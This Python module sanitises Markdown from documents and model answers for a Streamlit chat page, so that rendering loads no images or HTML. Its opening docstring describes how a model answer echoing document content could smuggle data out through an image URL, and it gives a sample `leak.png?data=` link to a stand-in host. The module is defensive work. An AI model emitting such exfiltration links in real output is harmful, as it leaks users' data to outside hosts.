"""Turn Markdown from documents or the model into Markdown the page can show without loading anything.

An answer may repeat whatever a document holds, and Streamlit renders Markdown images (and
would render HTML if allowed), so ``![x](http://host/leak.png?data=…)`` in an answer would
make the browser fetch that address. :func:`safe_markdown` parses the text with markdown-it-py
(CommonMark plus tables and strikethrough, raw HTML off) and writes it back as Markdown built
only from what it recognised: paragraphs, headings, lists, quotes, rules, code, emphasis,
tables and links to ``http``/``https``/``mailto`` addresses (plain links, clicked or not).
Every piece of text is backslash-escaped on the way out, so nothing in it can become syntax in
Streamlit's renderer (which also reads ``$…$`` maths, ``:emoji:`` and ``:color[…]``; only
``:material/name:`` still becomes an icon, drawn from a font the page ships). An image
becomes its alt text followed by its address as text; HTML in any form (a tag, a block, an
entity spelling one out, a tag split over lines) is shown as the characters it is.

It does not judge what text says, only that showing it cannot make the browser load anything.

An exported conversation is read in other viewers (an editor's preview, a notes app), most of which
render images and HTML: :func:`inert_markdown` leaves text that holds neither as it was written and
rewrites the rest with :func:`safe_markdown`.
"""

from __future__ import annotations

import re
import time
from collections.abc import Iterable, Iterator
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

# Every ASCII character with a meaning in CommonMark, GFM or Streamlit's extensions; CommonMark
# lets any ASCII punctuation be backslash-escaped, so escaping one more than needed is harmless.
SPECIALS = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$&=:])")
LINK_SCHEMES = frozenset({"http", "https", "mailto"})
ALIGN = {"text-align:left": ":--", "text-align:center": ":-:", "text-align:right": "--:"}

_parser = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
_viewer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])  # as most viewers read it
ACTIVE = frozenset({"image", "html_inline", "html_block"})


def escape(text: str) -> str:
    r"""Return ``text`` as Markdown that shows exactly these characters, on lines as they were.

    >>> escape("![x](http://h/a.png) <b>&amp;</b>")
    '\\!\\[x\\]\\(http\\://h/a\\.png\\) \\<b\\>\\&amp;\\</b\\>'
    """
    # leading spaces on a continued line could start an indented code block inside a list
    lines = [line.lstrip() if n else line for n, line in enumerate(text.split("\n"))]
    return SPECIALS.sub(r"\\\1", "\n".join(lines))


def safe_markdown(text: str) -> str:
    r"""Return ``text`` as Markdown that keeps its structure but can load no image or other resource.

    >>> print(safe_markdown("- **Bold** ![logo](http://example.com/x.png) <img src=x>"))
    - **Bold** logo \(image\: http\://example\.com/x\.png\) \<img src\=x\>
    """
    return _blocks(SyntaxTreeNode(_parser.parse(text)).children, tight=False)


def inert_markdown(text: str) -> str:
    r"""Return ``text`` as it is when a viewer rendering images and HTML would load nothing from it, else made safe.

    >>> inert_markdown("**Nine** o'clock, from [pier 2](https://x.test).")
    "**Nine** o'clock, from [pier 2](https://x.test)."
    >>> inert_markdown("Nine <img src=http://x.test/a.png>")
    'Nine \\<img src\\=http\\://x\\.test/a\\.png\\>'
    """
    tokens = _viewer.parse(text)
    if any(t.type in ACTIVE for token in tokens for t in [token, *(token.children or [])]):
        return safe_markdown(text)
    return text


def drafts(pieces: Iterable[str], every: float = 0.1) -> Iterator[str]:
    """Yield the text streamed so far, for redrawing: at most every ``every`` seconds, and once at the end.

    Each draft is sanitised and drawn whole (a half-received image is text too), which costs
    time in proportion to its length; when drawing is slow, drafts come more seldom, so a long
    answer costs a bounded share of the time rather than a time that grows with its square.

    >>> list(drafts(["a", "b", "c"], every=3600))
    ['a', 'abc']
    """
    text, shown, due = "", "", 0.0
    for piece in pieces:
        text += piece
        if time.monotonic() >= due:
            started = time.monotonic()
            yield (shown := text)
            due = time.monotonic() + max(every, 3 * (time.monotonic() - started))
    if text != shown:
        yield text


# -- blocks ------------------------------------------------------------------------------------
def _blocks(nodes: list[SyntaxTreeNode], tight: bool) -> str:
    parts, alternate = [], False
    for previous, node in zip([None, *nodes], nodes, strict=False):
        # two lists in a row written with the same marker would be read back as one list
        alternate = previous is not None and previous.type == node.type and not alternate
        if rendered := _block(node, alternate):
            parts.append(rendered)
    return ("\n" if tight else "\n\n").join(parts)


def _block(node: SyntaxTreeNode, alternate: bool) -> str:
    kind = node.type
    if kind == "paragraph":  # spaces before a line break would make it a hard break when read again
        return re.sub(r" +\n", "\n", _inlines(node.children))
    if kind == "heading":
        return "#" * int(node.tag[1]) + " " + _inlines(node.children, one_line=True).strip()
    if kind in ("bullet_list", "ordered_list"):
        return _list(node, alternate)
    if kind == "blockquote":
        return "\n".join(f"> {line}" if line else ">" for line in _blocks(node.children, tight=False).split("\n"))
    if kind in ("fence", "code_block"):
        return _fence(node.content, node.info if kind == "fence" else "")
    if kind == "hr":
        return "***"  # not "---": "- ---" would be read as a rule, not a list item holding one
    if kind == "table":
        return _table(node)
    return escape(node.content.strip())  # anything else (html_block if HTML were on) is shown as text


def _list(node: SyntaxTreeNode, alternate: bool) -> str:
    tight = any(child.type == "paragraph" and child.hidden for item in node.children for child in item.children)
    start = int(node.attrs.get("start", 1))
    items = []
    for number, item in enumerate(node.children, start=start):
        if node.type == "ordered_list":
            marker = f"{number}{')' if alternate else '.'} "
        else:
            marker = "+ " if alternate else "- "
        first, *rest = _blocks(item.children, tight=tight).split("\n")
        indent = " " * len(marker)
        items.append("\n".join([marker + first, *(indent + line if line else "" for line in rest)]).rstrip())
    return ("\n" if tight else "\n\n").join(items)


def _fence(code: str, info: str) -> str:
    longest = max((len(run) for run in re.findall(r"`+", code)), default=0)
    fence = "`" * max(3, longest + 1)
    words = info.split()
    language = words[0] if words and re.fullmatch(r"[\w+#.-]+", words[0]) else ""  # only a plain language name
    return f"{fence}{language}\n{code.rstrip(chr(10))}\n{fence}"


def _table(node: SyntaxTreeNode) -> str:
    rows = [row for section in node.children for row in section.children]
    cells = [[_inlines(cell.children, one_line=True, in_table=True) for cell in row.children] for row in rows]
    lines = ["| " + " | ".join(row) + " |" for row in cells]
    header = rows[0].children
    rule = "| " + " | ".join(ALIGN.get(str(cell.attrs.get("style", "")), "---") for cell in header) + " |"
    return "\n".join([lines[0], rule, *lines[1:]])


# -- inline ------------------------------------------------------------------------------------
def _inlines(nodes: list[SyntaxTreeNode], one_line: bool = False, in_table: bool = False) -> str:
    """Render inline nodes; ``one_line`` for headings and table cells, where a line break would end them."""
    return "".join(_inline(node, one_line, in_table) for node in nodes)


def _inline(node: SyntaxTreeNode, one_line: bool, in_table: bool) -> str:
    kind = node.type
    if kind == "inline":
        return _inlines(node.children, one_line, in_table)
    if kind == "text":
        return escape(node.content.replace("\n", " ") if one_line else node.content)
    if kind in ("softbreak", "hardbreak"):
        return " " if one_line else {"softbreak": "\n", "hardbreak": "\\\n"}[kind]
    if kind in ("strong", "em", "s"):
        inner = _inlines(node.children, one_line, in_table)
        mark = {"strong": "**", "em": "*", "s": "~~"}[kind]
        return f"{mark}{inner}{mark}" if inner.strip() else inner
    if kind == "code_inline":
        return _code(node.content.replace("|", "\\|") if in_table else node.content)
    if kind == "link":
        inner = _inlines(node.children, one_line, in_table)
        href = str(node.attrs.get("href", ""))
        if urlsplit(href).scheme.lower() in LINK_SCHEMES:
            return f"[{inner or escape(_parser.normalizeLinkText(href))}](<{_quote(href)}>)"
        return f"{inner} {escape(f'({_parser.normalizeLinkText(href)})')}"
    if kind == "image":
        alt, src = _plain(node).strip(), _parser.normalizeLinkText(str(node.attrs.get("src", "")))
        return escape(f"{alt} (image: {src})" if alt else f"(image: {src})")
    text = node.content.replace("\n", " ") if one_line else node.content
    return escape(text)  # html_inline and anything unknown: the characters themselves


def _plain(node: SyntaxTreeNode) -> str:
    """Return the text inside ``node`` without its markup (an image's alt text)."""
    if node.type in ("text", "code_inline"):
        return node.content
    if node.type in ("softbreak", "hardbreak"):
        return " "
    return "".join(_plain(child) for child in node.children)


def _code(code: str) -> str:
    if not code:
        return ""
    longest = max((len(run) for run in re.findall(r"`+", code)), default=0)
    ticks = "`" * (longest + 1)
    # CommonMark strips one space from each end of a code span unless it is all spaces
    pad = " " if code.strip(" ") and (code.startswith(("`", " ")) or code.endswith(("`", " "))) else ""
    return f"{ticks}{pad}{code}{pad}{ticks}"


def _quote(href: str) -> str:
    """Percent-encode what could end an angle-bracketed link destination (markdown-it already encodes most)."""
    return re.sub(r"[<>\\\s]", lambda m: f"%{ord(m.group()):02X}", href).replace("&", "\\&")
